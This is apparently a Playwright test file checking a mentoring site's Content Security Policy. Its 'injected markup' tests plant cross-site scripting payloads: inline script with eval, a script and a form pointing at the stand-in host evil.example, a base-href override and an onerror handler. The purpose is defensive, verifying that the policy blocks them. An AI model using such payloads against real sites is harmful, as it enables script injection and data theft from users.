import type { Page } from "@playwright/test";
import { createMentor, newPerson } from "../support/people";
import { expect, test } from "./fixtures";
import { mapOf, openMap } from "./map";
import { drawPicture, openEditor } from "./own-profile";
import { watchPolicies } from "./policies";
import { signIn } from "./accounts";

declare global {
  interface Window {
    /** The marker that injected code would set, and the test's binding. */
    ran?: string[];
    noteDirective: (text: string) => void;
  }
}

test("maps, dialogs and forms run within the policy", async ({ page, context }) => {
  const violations = await watchPolicies(context);
  await openMap(page);
  await page.getByText("Satellite", { exact: true }).click();
  await expect(mapOf(page).locator('img[src^="https://server.arcgisonline.com"]').first()).toBeAttached();
  await page.goto("/");
  await page.getByRole("main").getByRole("link", { name: "Watch how it works" }).click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.goto("/register");
  await page.getByRole("button", { name: "Create account" }).click();
  await expect(page.locator("[aria-invalid=true]").first()).toBeVisible();
  expect(violations).toEqual([]);
});

test("the pages behind the sign-in run with their nonces", async ({ page, context }) => {
  const [mentor, other] = [await createMentor(), await createMentor()];
  await signIn(page, mentor);
  const violations = await watchPolicies(context);
  const tabs = ["about", "courses", "qualifications", "reviews", "meetings", "availability", "settings"];
  for (const path of [...tabs.map((tab) => `/profile?tab=${tab}`), `/Book-a-Meeting?mentor=${other.username}`]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
  }
  const dialog = await openEditor(page);
  await expect(dialog.getByRole("textbox").first()).toBeVisible();
  await page.goto("/profile");
  await page.getByRole("button", { name: "Add a photo" }).click();
  const picture = { name: "me.png", mimeType: "image/png", buffer: await drawPicture(page) };
  const photo = page.getByRole("dialog", { name: "Your photo" });
  await photo.getByLabel("Picture file").setInputFiles(picture);
  await expect(photo.locator('img[src^="blob:"]').first()).toBeVisible();
  const { email } = newPerson();
  await page.request.post("/api/v1/subscriptions", { data: { email } });
  await page.goto("/dev/outbox");
  const mail = page.getByTitle(email);
  await mail.scrollIntoViewIfNeeded();
  await expect(mail.contentFrame().getByRole("link", { name: "Confirm my subscription" })).toBeVisible();
  await page.getByRole("link", { name: "Mentorhood", exact: true }).click();
  await expect(page).toHaveURL("/");
  expect(violations).toEqual([]);
});

test.describe("injected markup", () => {
  test.use({ allowedConsole: [/Content Security Policy/] });

  const INJECTED = `<script>window.ran = ["inline"]; try { eval("1"); window.ran.push("eval"); } catch {}</script>
    <script src="https://evil.example/x.js"></script><base href="https://evil.example/">`;
  const LATER = `<img src="data:," onerror="(window.ran ??= []).push('handler')">
    <form id="injected" action="https://evil.example/"></form>`;

  /** Opens a page as if a user's text were in it as markup. */
  async function openWithInjection(page: Page, path: string): Promise<void> {
    await page
      .context()
      .route("https://evil.example/**", (route) =>
        route.fulfill({ contentType: "text/javascript", body: "(window.ran ??= []).push('foreign');" }),
      );
    await page.route(`**${path}`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace("</head>", `${INJECTED}</head>`) });
    });
    await page.goto(path);
    await page.waitForLoadState("networkidle");
    await page.evaluate((html) => document.body.insertAdjacentHTML("beforeend", html), LATER);
    // The picture has failed to load by now.
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));
  }
  const ran = (page: Page) => page.evaluate(() => window.ran ?? []);

  test("does not run on a page with a nonce", async ({ page }) => {
    await signIn(page, await createMentor());
    await openWithInjection(page, "/profile");
    expect(await ran(page)).toEqual([]);
    expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost/);
  });

  test("cannot load foreign scripts, evaluate text or submit forms to other sites on a cached page", async ({
    page,
  }) => {
    await openWithInjection(page, "/career");
    const violations: string[] = [];
    await page.exposeFunction("noteDirective", (text: string) => violations.push(text));
    await page.evaluate(() => {
      document.addEventListener("securitypolicyviolation", (event) => window.noteDirective(event.effectiveDirective));
      document.querySelector<HTMLFormElement>("#injected")!.submit();
    });
    await expect.poll(() => violations).toEqual(["form-action"]);
    expect((await ran(page)).sort()).toEqual(["handler", "inline"]);
    expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost/);
  });
});
